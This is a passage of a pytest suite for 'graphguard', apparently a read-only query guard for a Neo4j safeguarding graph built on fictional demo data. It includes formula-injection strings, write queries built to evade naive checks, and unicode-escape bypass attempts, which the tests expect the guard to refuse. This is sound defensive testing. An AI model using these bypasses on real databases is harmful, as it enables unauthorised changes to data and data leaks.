        {"'=cmd": "'@SUM(A1)", "name": "'=HYPERLINK(\"http://x\",\"y\")", "n": -3,
         "ids": ["'+1", "x"], "node": {"properties": {"name": "'-2+3"}}, "tab": "'\tx",
         "flag": False},
        {"'=cmd": "plain", "name": "a\n=b", "n": -2.5, "ids": [-1, 2], "node": None,
         "tab": "'\n=1", "flag": None},
    ]


def test_local_neo4j_refuses_load_csv_from_files_unless_asked(tmp_path: Path) -> None:
    import inspect

    from graphguard.neo4j_local import start
    from graphguard.neo4j_local.conf import neo4j_conf

    setting = "dbms.security.allow_csv_import_from_file_urls"
    assert f"{setting}=false" in neo4j_conf(tmp_path, 7687, "1g").splitlines()
    assert f"{setting}=true" in neo4j_conf(tmp_path, 7687, "1g", allow_csv_import=True).splitlines()
    assert inspect.signature(start).parameters["allow_csv_import"].default is False


# ============================================================================ CLI (no server)


def test_cli_list_and_show() -> None:
    code, out, err = cli("list")
    assert code == 0, err
    names = [line.split()[0] for line in out.splitlines()]
    assert names == sorted(load_library())
    assert "Where have young people been found after going missing" in out
    code, out, err = cli("show", "young_people_near_adult")
    assert code == 0, err
    assert out.startswith("// name: young_people_near_adult")
    assert "MATCH (adult:Adult {id: $adult_id})" in out
    code, out, err = cli("show", "no_such_query")
    assert code == 2 and "no library query named 'no_such_query'" in err


@pytest.mark.parametrize(
    ("args", "message"),
    [
        ((), "give a library query NAME or --query TEXT"),
        (("found_after_missing", "--query", "RETURN 1"), "one of the two"),
        (("no_such_query",), "no library query named"),
        (("found_after_missing", "--param", "since"), "is not KEY=VALUE"),
        (("found_after_missing", "-p", "since=2026-01-01", "-p", "since=x"), "given twice"),
        (("found_after_missing",), "NEO4J_URI is not set"),
    ],
)
def test_cli_run_usage_errors_exit_2(args: tuple[str, ...], message: str) -> None:
    code, out, err = cli("run", *args)
    assert code == 2, out + err
    assert message in err and err.count("\n") == 1


# ======================================================================== against Neo4j


@pytest.fixture(scope="module")
def driver(neo4j_driver: Any) -> Iterator[Any]:
    """The test server's driver, with exactly the demo town loaded."""
    from graphguard.ingest import read_dataset
    from graphguard.store.neo4j import Neo4jStore

    store = Neo4jStore(neo4j_driver)
    store.clear()
    store.load(read_dataset(ROOT / "fixtures" / "demo").dataset)
    yield neo4j_driver


@pytest.fixture
def audit(tmp_path: Path) -> Path:
    return tmp_path / "audit.jsonl"


def stored_ids(driver: Any) -> tuple[dict[str, str], dict[str, str]]:
    """graphguard's ids → what Neo4j holds (young people's pseudonyms), and back."""
    from graphguard.store.neo4j import Neo4jStore

    back = Neo4jStore(driver).graphguard_ids()
    return {v: k for k, v in back.items()}, back


def translated(value: Any, ids: dict[str, str]) -> Any:
    """``value`` with every string that is a key of ``ids`` replaced, however nested."""
    if isinstance(value, str):
        return ids.get(value, value)
    if isinstance(value, list | tuple):
        return [translated(v, ids) for v in value]
    if isinstance(value, dict):
        return {k: translated(v, ids) for k, v in value.items()}
    return value


def run_named(driver: Any, name: str, audit: Path, **params: Any) -> list[dict[str, Any]]:
    """Run a library query as a liaison would: young people named by their pseudonyms.

    The demo story names young people by their ids: they go in as the pseudonyms Neo4j
    holds, and come back translated, so the checks read as the story does.
    """
    spec = load_library()[name]
    forward, back = stored_ids(driver)
    result = run_library_query(driver, spec, translated(params, forward), timeout=30,
                               row_limit=10_000, audit_path=audit)
    assert not result.truncated
    assert result.columns == spec.returns, name
    return [translated(row, back) for row in result.rows]


def graph_state(driver: Any) -> dict[str, Any]:
    """Everything a write could change: counts, tokens, schema, users."""
    from graphguard.store.neo4j import Neo4jStore

    state: dict[str, Any] = dict(Neo4jStore(driver).counts())
    with driver.session() as session:
        state["labels"] = sorted(r["label"] for r in session.run("CALL db.labels()"))
        state["types"] = sorted(r[0] for r in session.run("CALL db.relationshipTypes()"))
        state["keys"] = sorted(r[0] for r in session.run("CALL db.propertyKeys()"))
        state["schema"] = sorted(r["name"] for r in session.run("SHOW INDEXES YIELD name"))
    with driver.session(database="system") as session:
        state["users"] = sorted(r["user"] for r in session.run("SHOW USERS YIELD user"))
    return state


@pytest.mark.neo4j
def test_every_library_query_runs_with_its_documented_params(driver: Any, audit: Path) -> None:
    library = load_library()
    forward, _ = stored_ids(driver)
    for name, spec in library.items():
        # An example naming a demo young person means their pseudonym in the graph.
        examples = translated(spec.examples, forward)
        result = run_library_query(driver, spec, examples, timeout=30, row_limit=10_000,
                                   audit_path=audit)
        assert result.columns == spec.returns, name
        assert result.query_name == name
        assert result.rows, f"{name}'s :param examples find nothing in the demo"
    entries = read_audit(audit)
    assert [e["query"] for e in entries] == list(library)
    assert {e["outcome"] for e in entries} == {"ok"}


def _everything_about(driver: Any, audit: Path) -> None:
    rows = run_named(driver, "everything_about", audit, entity_id=N1["unflagged_adult"])
    to_car = {r["link_type"] for r in rows if r["other_id"] == N1["car"]}
    assert {"DRIVES", "KEEPER_OF"} <= to_car
    assert any(r["other_id"] == N1["flat"] and r["link_type"] == "SEEN_AT" for r in rows)
    assert all(r["direction"] in ("in", "out") for r in rows)
    assert all(re.fullmatch(r"[123-]/[A-E-]/[PC-]", r["grading"]) for r in rows)
    assert all(r["reference"] for r in rows if r["agency"] == "police")


def _person_profile(driver: Any, audit: Path) -> None:
    (adult,) = run_named(driver, "person_profile", audit, person_id=N1["unflagged_adult"])
    assert (adult["role"], adult["suspected"]) == ("adult", False)
    assert adult["name"] and adult["links"] > 5
    (victim,) = run_named(driver, "person_profile", audit, person_id=N1["victims"][0])
    assert victim["role"] == "young_person" and victim["name"] is None
    assert run_named(driver, "person_profile", audit, person_id="NOBODY") == []


def _young_people_near_adult(driver: Any, audit: Path) -> None:
    rows = run_named(driver, "young_people_near_adult", audit, adult_id=N1["main_adult"],
                     max_steps=2)
    found = {r["young_person_id"]: r for r in rows}
    assert set(N1["victims"]) <= set(found)
    for row in rows:
        assert row["steps"] == len(row["path_types"]) == len(row["gradings"]) <= 2
        assert row["path_ids"][0] == N1["main_adult"]
        assert row["path_ids"][-1] == row["young_person_id"]
    direct = run_named(driver, "young_people_near_adult", audit, adult_id=N1["main_adult"],
                       max_steps=1)
    assert direct and all(r["steps"] == 1 and r["direct_link_types"] for r in direct)
    assert {r["young_person_id"] for r in direct} < set(found)


def _adults_near_young_person(driver: Any, audit: Path) -> None:
    victim = N1["found_at_flat"][0]
    rows = run_named(driver, "adults_near_young_person", audit, young_person_id=victim)
    adults = {r["adult_id"]: r for r in rows}
    assert set(N1["adults"]) <= set(adults)
    assert adults[N1["unflagged_adult"]]["suspected"] is False
    assert all(adults[a]["suspected"] for a in N1["suspected_adults"])
    assert all(r["steps"] <= 2 and r["path_ids"][0] == victim for r in rows)


def _vehicles_with_young_people(driver: Any, audit: Path) -> None:
    rows = run_named(driver, "vehicles_with_young_people", audit, min_young_people=3)
    vehicles = {r["vehicle_id"]: r for r in rows}
    car = vehicles[N1["car"]]
    assert N1["unflagged_adult"] in car["drivers_and_keepers"]
    assert len(set(car["young_person_ids"]) & set(N1["victims"])) >= 3
    assert car["young_people"] == len(car["young_person_ids"]) >= 3
    school_run = vehicles[DECOYS["school_run_vehicle"]]
    assert set(school_run["young_person_ids"]) == set(DECOYS["school_run_passengers"])
    assert school_run["agencies"] == ["education"]
    assert all(r["young_people"] >= 3 for r in rows)
    more = run_named(driver, "vehicles_with_young_people", audit,
                     min_young_people=car["young_people"] + 1)
    assert N1["car"] not in {r["vehicle_id"] for r in more}


def _found_after_missing(driver: Any, audit: Path) -> None:
    rows = run_named(driver, "found_after_missing", audit)
    places = {r["location_id"]: r for r in rows}
    assert {rows[0]["location_id"], rows[1]["location_id"]} == {N1["flat"], N2["hotel"]}
    assert set(N1["found_at_flat"]) <= set(places[N1["flat"]]["young_person_ids"])
    assert set(N2["found_at_hotel"]) <= set(places[N2["hotel"]]["young_person_ids"])
    assert places[N2["hotel"]]["location_kind"] == "hotel"
    assert run_named(driver, "found_after_missing", audit, since="2026-12-01") == []


def _who_else_at_location(driver: Any, audit: Path) -> None:
    rows = run_named(driver, "who_else_at_location", audit, location_id=N1["dock"],
                     **{"from": "2026-01-01", "to": STORY["as_of"]})
    there = {r["entity_id"] for r in rows}
    assert set(N1["adults"]) <= there and N1["car"] in there
    assert all(r["last_seen"] is None or r["last_seen"] >= "2026-01-01" for r in rows)
    long_ago = run_named(driver, "who_else_at_location", audit, location_id=N1["dock"],
                         **{"from": "2000-01-01", "to": "2000-12-31"})
    assert all(r["first_seen"] is None and r["last_seen"] is None for r in long_ago)


def _shortest_path(driver: Any, audit: Path) -> None:
    spec = load_library()["shortest_path"]
    result = run_library_query(
        driver, spec, {"from_id": N2["unflagged_adult"], "to_id": N2["hotel"]},
        timeout=30, row_limit=10, audit_path=audit,
    )
    (row,) = result.rows
    assert row["steps"] <= 2
    assert row["path_ids"][0] == N2["unflagged_adult"] and row["path_ids"][-1] == N2["hotel"]
    nodes = row["path"][0::2]
    links = row["path"][1::2]
    assert [n["id"] for n in nodes] == row["path_ids"]
    assert [r["type"] for r in links] == row["path_types"]
    assert result.graph is not None
    assert set(result.graph.nodes) == set(row["path_ids"])
    assert result.graph.number_of_edges() == row["steps"]
    too_short = run_named(driver, "shortest_path", audit, from_id=N1["main_adult"],
                          to_id=N2["hotel"], max_steps=1)
    assert too_short == []


def _links_since(driver: Any, audit: Path) -> None:
    from graphguard.ingest import read_dataset

    since = dt.date(2026, 11, 1)
    rows = run_named(driver, "links_since", audit, since=since.isoformat())
    links = read_dataset(ROOT / "fixtures" / "demo").dataset.links
    expected = {
        link.link_id for link in links
        if (link.first_seen or link.last_seen) is not None
        and (link.first_seen or link.last_seen) >= since  # type: ignore[operator]
    }
    assert {r["link_id"] for r in rows} == expected
    found = run_named(driver, "links_since", audit, since="2025-01-01", types="FOUND_AT",
                      agencies="police,social_care")
    assert found and {r["link_type"] for r in found} == {"FOUND_AT"}
    assert {r["agency"] for r in found} <= {"police", "social_care"}


def _associates_of_associates(driver: Any, audit: Path) -> None:
    from graphguard.ingest import read_dataset

    adult = N1["main_adult"]
    rows = run_named(driver, "associates_of_associates", audit, adult_id=adult)
    social = {"ASSOCIATES_WITH", "CONTACTED", "FAMILY_OF", "PARTNER_OF"}
    links = read_dataset(ROOT / "fixtures" / "demo").dataset.links
    neighbours: dict[str, set[str]] = {}
    direct: set[str] = set()
    for link in links:
        if adult in (link.source_id, link.target_id):
            direct.add(link.target_id if link.source_id == adult else link.source_id)
        if link.type.value in social:
            neighbours.setdefault(link.source_id, set()).add(link.target_id)
            neighbours.setdefault(link.target_id, set()).add(link.source_id)
    # a person node only: the social links join people
    expected = {
        person for associate in neighbours.get(adult, set())
        for person in neighbours.get(associate, set())
    } - direct - {adult}
    assert {r["person_id"] for r in rows} == expected
    for row in rows:
        assert set(row["via_ids"]) <= neighbours[adult] and row["via"] == len(row["via_ids"])


def _places_adult_frequents(driver: Any, audit: Path) -> None:
    rows = run_named(driver, "places_adult_frequents", audit, adult_id=N1["unflagged_adult"])
    places = {r["location_id"]: r for r in rows}
    assert {N1["flat"], N1["dock"]} <= set(places)
    assert any(f"by {N1['car']}" in r["how"] for r in rows)
    assert places[N1["flat"]]["young_people_there"] >= len(N1["found_at_flat"])
    late = run_named(driver, "places_adult_frequents", audit, adult_id=N1["unflagged_adult"],
                     since=STORY["as_of"])
    assert late == []


def _vehicles_of_adults_of_concern(driver: Any, audit: Path) -> None:
    rows = run_named(driver, "vehicles_of_adults_of_concern", audit)
    vehicles = {r["vehicle_id"]: r for r in rows}
    assert N1["car"] in vehicles
    assert DECOYS["school_run_vehicle"] not in vehicles
    assert all(r["adults_of_concern"] and set(r["adults_of_concern"]) <= set(r["adults"])
               for r in rows)
    shared = run_named(driver, "vehicles_of_adults_of_concern", audit, min_adults=2)
    assert all(len(r["adults"]) >= 2 for r in shared)


def _well_graded_intelligence(driver: Any, audit: Path) -> None:
    rows = run_named(driver, "well_graded_intelligence", audit)
    assert rows
    assert all(r["grading"][0] in "12" and r["grading"][2] in "AB" for r in rows)
    assert DECOYS["malicious_allegation_link"] not in {r["link_id"] for r in rows}
    adult = N1["main_adult"]
    about = run_named(driver, "well_graded_intelligence", audit, entity_id=adult,
                      types="ALLEGED_HARM")
    assert about and all(r["source_id"] == adult for r in about)
    strict = run_named(driver, "well_graded_intelligence", audit, source_grades="1",
                       intel_grades="A")
    assert strict and all(r["grading"].startswith("1/A/") for r in strict)


def _allegations(driver: Any, audit: Path) -> None:
    rows = run_named(driver, "allegations", audit)
    malicious = [r for r in rows if r["adult_id"] == DECOYS["malicious_allegation_adult"]]
    assert malicious and all(r["grading"].startswith("3/E") for r in malicious)
    main = run_named(driver, "allegations", audit, adult_id=N1["main_adult"])
    assert main and {r["adult_id"] for r in main} == {N1["main_adult"]}
    assert {r["young_person_id"] for r in main} <= set(N1["victims"])


def _protective_factors(driver: Any, audit: Path) -> None:
    rows = run_named(driver, "protective_factors", audit,
                     young_person_id=PLACEMENT["young_person"])
    assert set(PLACEMENT["protective_links"]) <= {r["link_id"] for r in rows}
    assert PLACEMENT["grandmother"] in {r["other_id"] for r in rows}


def _adults_with_many_young_people(driver: Any, audit: Path) -> None:
    rows = run_named(driver, "adults_with_many_young_people", audit, min_young_people=5)
    adults = {r["adult_id"]: r for r in rows}
    worker = adults[DECOYS["youth_worker"]]
    assert rows[0]["adult_id"] == DECOYS["youth_worker"]
    assert worker["professional"] and worker["harm_allegations"] == 0
    assert worker["young_people"] >= DECOYS["youth_worker_supports"]
    assert worker["protective_links"] >= DECOYS["youth_worker_supports"]
    assert all(r["young_people"] >= 5 for r in rows)


def _records_behind_entity(driver: Any, audit: Path) -> None:
    # The demo is one joined namespace (v1): every entity is its own one record.
    adult = N1["unflagged_adult"]
    (row,) = run_named(driver, "records_behind_entity", audit, entity_id=adult)
    assert (row["entity_id"], row["record_id"], row["source"]) == (adult, adult, None)
    (profile,) = run_named(driver, "person_profile", audit, person_id=adult)
    assert row["links"] == profile["links"] > 5
    assert row["record"]["properties"]["id"] == adult
    assert run_named(driver, "records_behind_entity", audit, entity_id="NOBODY") == []


STORY_CHECKS: dict[str, Callable[[Any, Path], None]] = {
    "everything_about": _everything_about,
    "person_profile": _person_profile,
    "young_people_near_adult": _young_people_near_adult,
    "adults_near_young_person": _adults_near_young_person,
    "vehicles_with_young_people": _vehicles_with_young_people,
    "found_after_missing": _found_after_missing,
    "who_else_at_location": _who_else_at_location,
    "shortest_path": _shortest_path,
    "links_since": _links_since,
    "associates_of_associates": _associates_of_associates,
    "places_adult_frequents": _places_adult_frequents,
    "vehicles_of_adults_of_concern": _vehicles_of_adults_of_concern,
    "well_graded_intelligence": _well_graded_intelligence,
    "allegations": _allegations,
    "protective_factors": _protective_factors,
    "adults_with_many_young_people": _adults_with_many_young_people,
    "records_behind_entity": _records_behind_entity,
}


def test_every_library_query_has_a_story_check() -> None:
    assert set(STORY_CHECKS) == set(load_library())


@pytest.mark.neo4j
@pytest.mark.parametrize("name", sorted(STORY_CHECKS))
def test_library_query_tells_the_demo_story(name: str, driver: Any, audit: Path) -> None:
    STORY_CHECKS[name](driver, audit)


@pytest.mark.neo4j
def test_write_attempts_are_refused_and_change_nothing(driver: Any, audit: Path) -> None:
    before = graph_state(driver)
    for text in REFUSED:
        with pytest.raises(RefusedError):
            run_query(driver, text, timeout=10, row_limit=100, audit_path=audit)
    assert graph_state(driver) == before
    entries = read_audit(audit)
    assert len(entries) == len(REFUSED) >= 30
    assert [e["sha256"] for e in entries] == [_sha256(text) for text in REFUSED]
    assert {e["outcome"] for e in entries} == {"refused"}
    assert all(e["reason"] and e["rows"] is None for e in entries)


# Writes that a naive static check (one looking for CREATE/SET/DELETE only) would pass.
SLIPS_PAST_A_NAIVE_CHECK = [
    "MERGE (n:Tmp {id: 'x'})",
    "MATCH (n:Adult) REMOVE n:Adult",
    "FOREACH (x IN [1] | MERGE (:Tmp {x: x}))",
    "CALL db.createLabel('Tmp')",
    "CALL db.createProperty('tmp')",
    "CALL { MATCH (n:Vehicle) DETACH DELETE n } RETURN 1 AS done",
    "MATCH (n:Adult) WITH n LIMIT 1 REMOVE n.name",
    "CREATE INDEX tmp_index FOR (n:Tmp) ON (n.x)",
    "CREATE CONSTRAINT tmp_unique FOR (n:Tmp) REQUIRE n.id IS UNIQUE",
    "DROP INDEX entity_id IF EXISTS",
    "MATCH (n) RETURN n.id AS id UNION ALL MATCH (m:Vehicle) DETACH DELETE m RETURN 'x' AS id",
]


@pytest.mark.neo4j
def test_explain_refuses_writes_on_its_own(driver: Any) -> None:
    before = graph_state(driver)
    for text in SLIPS_PAST_A_NAIVE_CHECK:
        plan = explain_query(driver, text, timeout=10)
        assert plan.query_type != "r", text
        with pytest.raises(RefusedError, match="EXPLAIN says"):
            check_plan_read_only(plan)
    assert explain_query(driver, "MATCH (n) RETURN count(n)").query_type == "r"
    assert graph_state(driver) == before


@pytest.mark.neo4j
def test_read_access_mode_refuses_writes_on_its_own(driver: Any) -> None:
    before = graph_state(driver)
    for text in [*SLIPS_PAST_A_NAIVE_CHECK, "CREATE (n:Tmp)", "MATCH (n) SET n.x = 1",
                 "CREATE USER mallory SET PASSWORD 'secret-password'"]:
        with pytest.raises(RefusedError, match="read access mode"):
            execute_read(driver, text, timeout=10, row_limit=10)
    assert graph_state(driver) == before


@pytest.mark.neo4j
def test_neo4j_decodes_unicode_escapes_everywhere(driver: Any) -> None:
    """Why the static check refuses every \\u escape: the server decodes them anywhere."""
    with driver.session() as session:
        assert session.run("RETURN 1 AS \\u0061").keys() == ["a"]
        assert session.run("RETURN 1 AS `a\\u0062`").keys() == ["ab"]
        closed = session.run("RETURN '\\u0027 AS x, 1 AS y //' AS z")
        assert closed.keys() == ["x", "y"]  # \u0027 closed the string
        plan = session.run("EXPLAIN MATCH (n) // note\\u000dCREATE (m:Tmp)").consume()
        assert plan.query_type == "w"  # \u000d ended the comment


@pytest.mark.neo4j
def test_escaped_and_comment_hidden_attempts_are_refused_and_change_nothing(
    driver: Any, audit: Path
) -> None:
    before = graph_state(driver)
    for text in EVASIONS:
        with pytest.raises(RefusedError):
            run_query(driver, text, timeout=10, row_limit=100, audit_path=audit)
    assert graph_state(driver) == before
    entries = read_audit(audit)
    assert [e["sha256"] for e in entries] == [_sha256(text) for text in EVASIONS]
    assert len(EVASIONS) == len(ESCAPE_BYPASSES) + 3 * len(REFUSED)
    assert {e["outcome"] for e in entries} == {"refused"}


def _server_side_layers(driver: Any, text: str) -> str:
    """What the server-side layers alone (EXPLAIN's plan, the READ transaction) make of it."""
    try:
        check_plan_read_only(explain_query(driver, text, timeout=10))
        execute_read(driver, text, timeout=10, row_limit=10)
    except RefusedError as exc:
        return f"refused: {exc}"
    except GraphguardError as exc:
        return f"failed: {exc}"
    return "ran"


# Attempts the server-side layers let run: reading the server's default database by name,
# the one graphguard uses anyway (the static check refuses any USE).
HARMLESS_ON_THE_SERVER = {"USE neo4j MATCH (n) RETURN n"}


@pytest.mark.neo4j
def test_server_side_layers_stop_escaped_attempts_on_their_own(driver: Any) -> None:
    before = graph_state(driver)
    attempts = [
        *ESCAPE_BYPASSES,
        *(
            hidden
            for plain, hidden in zip(REFUSED, ESCAPED_REFUSED, strict=True)
            if plain not in HARMLESS_ON_THE_SERVER
        ),
        *(
            hidden
            for plain, hidden in zip(REFUSED, ESCAPED_CR_COMMENT_REFUSED, strict=True)
            if plain not in HARMLESS_ON_THE_SERVER
        ),
    ]
    ran = [text for text in attempts if _server_side_layers(driver, text) == "ran"]
    assert ran == []
    assert graph_state(driver) == before


@pytest.mark.neo4j
def test_escaped_load_csv_is_refused_by_the_plan_check_alone(driver: Any) -> None:
    file_read, url_leak = ESCAPE_BYPASSES[0], ESCAPE_BYPASSES[1]
    string_closing = next(t for t in ESCAPE_BYPASSES if t.startswith("WITH '"))
    for text in (file_read, url_leak, string_closing):
        plan = explain_query(driver, text, timeout=10)
        # The server types LOAD CSV as a read: the query type alone lets it through.
        assert plan.query_type == "r" and "LoadCSV" in plan.operators, text
        with pytest.raises(RefusedError, match=r"shows a LOAD CSV \(LoadCSV operator\)"):
            check_plan_read_only(plan)


@pytest.mark.neo4j
def test_escaped_procedures_and_functions_are_refused_server_side(driver: Any) -> None:
    info = explain_query(driver, "CALL db\\u002einfo()", timeout=10)
    assert info.query_type == "r" and info.procedures == {"db.info"}
    with pytest.raises(RefusedError, match=r"procedure db\.info, which is not on the read-only"):
        check_plan_read_only(info)
    write = explain_query(driver, "CALL db\\u002ecreateLabel('Tmp')", timeout=10)
    with pytest.raises(RefusedError, match="EXPLAIN says this query writes"):
        check_plan_read_only(write)
    # No plugin is installed on the test server, so it cannot plan a plugin function at
    # all; the plan check's function rule is tested on a plan above.
    with pytest.raises(UsageError, match=r"Unknown function 'apoc\.text\.join'"):
        explain_query(driver, "RETURN \\u0061poc.text.join(['a'], ',') AS x", timeout=10)


@pytest.mark.neo4j
def test_show_and_terminate_commands_are_refused_by_the_plan_check(driver: Any) -> None:
    for text, operator in [
        ("SHOW TRANSACTIONS YIELD transactionId, currentQuery, parameters", "ShowTransactions"),
        ("TERMINATE TRANSACTIONS 'neo4j-transaction-1'", "TerminateTransactions"),
        ("SHOW SETTINGS YIELD name, value", "ShowSettings"),
    ]:
        plan = explain_query(driver, text, timeout=10)
        # Typed as reads, and a READ transaction runs them: only the plan check stops them.
        assert plan.query_type == "r" and operator in plan.operators, text
        with pytest.raises(RefusedError, match=rf"shows a command \({operator} operator\)"):
            check_plan_read_only(plan)


@pytest.mark.neo4j
def test_the_server_refuses_load_csv_from_files(driver: Any) -> None:
    setting = "dbms.security.allow_csv_import_from_file_urls"
    with driver.session() as session:
        value = session.run(
            "SHOW SETTINGS YIELD name, value WHERE name = $name RETURN value", name=setting
        ).single(strict=True)["value"]
    if value != "false":
        pytest.skip(f"this test server allows LOAD CSV from files ({setting}={value})")
    with pytest.raises(UsageError, match=re.escape(setting)):
        execute_read(driver, ESCAPE_BYPASSES[0], timeout=10, row_limit=10)


@pytest.mark.neo4j
def test_server_notices_reach_the_cli_as_one_line_each(
    driver: Any,
    neo4j_env: Any,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    caplog: pytest.LogCaptureFixture,
) -> None:
    from graphguard.settings import get_settings

    caplog.set_level(logging.DEBUG, logger="neo4j")
    monkeypatch.setenv("GRAPHGUARD_AUDIT_LOG", str(tmp_path / "audit.jsonl"))
    get_settings.cache_clear()

    code, out, err = cli("run", "--query", "MATCH (n:Adult) WHERE n.nme = 'x' RETURN n.id AS id")
    assert code == 0, err
    (line,) = err.splitlines()
    assert re.fullmatch(
        r"graphguard: Neo4j notice: .*The property `nme` does not exist\..* "
        r"\(line 1, column 25\)",
        line,
    ), line

    code, out, err = cli(
        "run", "--query", "MATCH (n:Adult) CALL { WITH n RETURN n.id AS i } RETURN i LIMIT 1"
    )
    assert code == 0, err
    assert err and all(line.startswith("graphguard: Neo4j notice: ") for line in err.splitlines())
    assert "deprecated" in err

    code, out, err = cli("run", "--query", "RETURN $x AS x")
    assert code == 2 and out == ""
    assert err == "graphguard: error: Neo4j could not run the query: Expected parameter(s): x\n"
    assert not [r for r in caplog.records if r.name.startswith("neo4j.notifications")]


@pytest.mark.neo4j
def test_driver_notifications_stay_quiet_even_in_development_mode(
    driver: Any, neo4j_server: Any, audit: Path, caplog: pytest.LogCaptureFixture
) -> None:
    import neo4j
    from neo4j.warnings import Neo4jWarning

    caplog.set_level(logging.DEBUG, logger="neo4j")
    noisy = neo4j.GraphDatabase.driver(
        neo4j_server.uri,
        auth=(neo4j_server.username, neo4j_server.password),
        warn_notification_severity="INFORMATION",  # what python -X dev turns on
    )
    query = "MATCH (n:Adult) WHERE n.nme = 'x' RETURN n.id AS id"
    try:
        with warnings.catch_warnings(record=True) as caught:
            warnings.simplefilter("always")
            with noisy.session() as session:  # on its own, the driver warns and logs
                session.run(query).consume()
            assert any(issubclass(w.category, Neo4jWarning) for w in caught)
            assert any(r.name == "neo4j.notifications" for r in caplog.records)
            caught.clear()
            caplog.clear()
            result = run_query(noisy, query, timeout=10, row_limit=10, audit_path=audit)
    finally:
        noisy.close()
    assert not [w for w in caught if issubclass(w.category, Neo4jWarning)]
    assert not [r for r in caplog.records if r.name.startswith("neo4j.notifications")]
    (notice,) = result.notices
    assert "`nme`" in notice and "\n" not in notice


@pytest.mark.neo4j
@pytest.mark.parametrize("text", [t for t in ALLOWED if "$ids" not in t])
def test_reads_are_allowed(text: str, driver: Any, audit: Path) -> None:
    result = run_query(driver, text, timeout=30, row_limit=1000, audit_path=audit)
    assert read_audit(audit)[-1]["outcome"] == "ok"
    assert read_audit(audit)[-1]["rows"] == len(result.rows)


@pytest.mark.neo4j
def test_read_results_are_plain_values_and_a_graph(driver: Any, audit: Path) -> None:
    car, driver_id = N1["car"], N1["unflagged_adult"]
    result = run_query(
        driver,
        "MATCH (a:Adult {id: $adult})-[r:DRIVES]->(v:Vehicle {id: $car}) "
        "RETURN a AS adult, r AS drives, v AS car, r.first_seen AS since, "
        "duration('P1D') AS one_day, point({x: 1, y: 2}) AS spot",
        {"adult": driver_id, "car": car},
        timeout=30, row_limit=10, audit_path=audit,
    )
    (row,) = result.rows
    assert row["adult"]["id"] == driver_id and "Adult" in row["adult"]["labels"]
    assert isinstance(row["adult"]["properties"]["date_of_birth"], str)
    assert (row["drives"]["start"], row["drives"]["end"]) == (driver_id, car)
    assert row["drives"]["type"] == "DRIVES" and row["drives"]["id"].startswith("L")
    assert re.fullmatch(r"\d{4}-\d{2}-\d{2}", row["since"])
    assert row["one_day"] == "P1D" and row["spot"]["coordinates"] == [1.0, 2.0]
    json.dumps(result.rows)
    graph = result.graph
    assert graph is not None and set(graph.nodes) == {driver_id, car}
    ((u, v, key, data),) = graph.edges(keys=True, data=True)
    assert (u, v, key, data["type"]) == (driver_id, car, row["drives"]["id"], "DRIVES")
    assert isinstance(data["first_seen"], dt.date)
    no_graph = run_query(driver, "RETURN 1 AS one", timeout=30, row_limit=10, audit_path=audit)
    assert no_graph.graph is None and no_graph.rows == [{"one": 1}]


@pytest.mark.neo4j
def test_row_limit_is_reported(driver: Any, audit: Path) -> None:
    result = run_query(driver, "UNWIND range(1, 50) AS x RETURN x", timeout=30, row_limit=10,
                       audit_path=audit)
    assert result.truncated and result.row_limit == 10
    assert [row["x"] for row in result.rows] == list(range(1, 11))
    exact = run_query(driver, "UNWIND range(1, 10) AS x RETURN x", timeout=30, row_limit=10,
                      audit_path=audit)
    assert not exact.truncated and len(exact.rows) == 10
    first, second = read_audit(audit)
    assert (first["rows"], first["truncated"]) == (10, True)
    assert (second["rows"], second["truncated"]) == (10, False)


@pytest.mark.neo4j
def test_timeout_is_enforced_and_explained(driver: Any, audit: Path) -> None:
    slow = "UNWIND range(1, 1000000000) AS x RETURN count(x) AS n"
    with pytest.raises(QueryTimeout) as raised:
        run_query(driver, slow, timeout=1, row_limit=10, audit_path=audit)
    message = str(raised.value)
    assert "timeout of 1 s" in message and "GRAPHGUARD_CYPHER_TIMEOUT" in message
    assert isinstance(raised.value, RefusedError)
    (entry,) = read_audit(audit)
    assert entry["outcome"] == "timeout" and entry["duration_ms"] < 30_000


@pytest.mark.neo4j
def test_server_errors_are_usage_errors_and_audited(driver: Any, audit: Path) -> None:
    with pytest.raises(UsageError, match="Neo4j could not run the query"):
        run_query(driver, "MATCH (n RETURN n", timeout=10, row_limit=10, audit_path=audit)
    with pytest.raises(UsageError, match="Neo4j could not run the query"):
        run_query(driver, "MATCH (n {id: $missing}) RETURN n", timeout=10, row_limit=10,
                  audit_path=audit)
    assert [e["outcome"] for e in read_audit(audit)] == ["error", "error"]


@pytest.mark.neo4j
def test_audit_has_one_line_per_run(driver: Any, audit: Path) -> None:
    spec = load_library()["found_after_missing"]
    run_library_query(driver, spec, {}, timeout=30, row_limit=100, audit_path=audit)
    with pytest.raises(RefusedError):
        run_query(driver, "MATCH (n) SET n.x = 1", timeout=30, row_limit=100, audit_path=audit)
    with pytest.raises(UsageError):
        run_library_query(driver, spec, {"since": "soon"}, timeout=30, row_limit=100,
                          audit_path=audit)
    run_query(driver, "CALL db.labels()", timeout=30, row_limit=100, audit_path=audit)
    entries = read_audit(audit)
    assert [(e["query"], e["outcome"]) for e in entries] == [
        ("found_after_missing", "ok"),
        (None, "refused"),
        ("found_after_missing", "error"),
        (None, "ok"),
    ]
    assert entries[0]["rows"] == len(run_named(driver, "found_after_missing", audit))
    assert entries[0]["params"] == {"since": None}


@pytest.mark.neo4j
def test_cli_runs_library_and_ad_hoc_queries(
    driver: Any, neo4j_env: Any, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from graphguard.settings import get_settings

    audit = tmp_path / "cli-audit.jsonl"
    monkeypatch.setenv("GRAPHGUARD_AUDIT_LOG", str(audit))
    get_settings.cache_clear()

    code, out, err = cli("run", "found_after_missing", "--format", "csv")
    assert code == 0, err
    rows = list(csv.DictReader(io.StringIO(out)))
    assert {N1["flat"], N2["hotel"]} <= {r["location_id"] for r in rows}
    flat = next(r for r in rows if r["location_id"] == N1["flat"])
    # Young people come out as the pseudonyms Neo4j holds.
    forward, _ = stored_ids(driver)
    found = set(flat["young_person_ids"].split("; "))
    assert {forward[y] for y in N1["found_at_flat"]} <= found
    assert not set(N1["found_at_flat"]) & found

    code, out, err = cli("run", "vehicles_with_young_people", "-p", "min_young_people=3",
                         "--format", "json")
    assert code == 0, err
    assert N1["car"] in {r["vehicle_id"] for r in json.loads(out)}

    code, out, err = cli("run", "young_people_near_adult", "-p", f"adult_id={N1['main_adult']}")
    assert code == 0, err
    assert out.splitlines()[0].split()[:2] == ["young_person_id", "steps"]

    code, out, err = cli("run", "--query", "MATCH (n:Vehicle) WHERE n.id = $id RETURN n.id AS id",
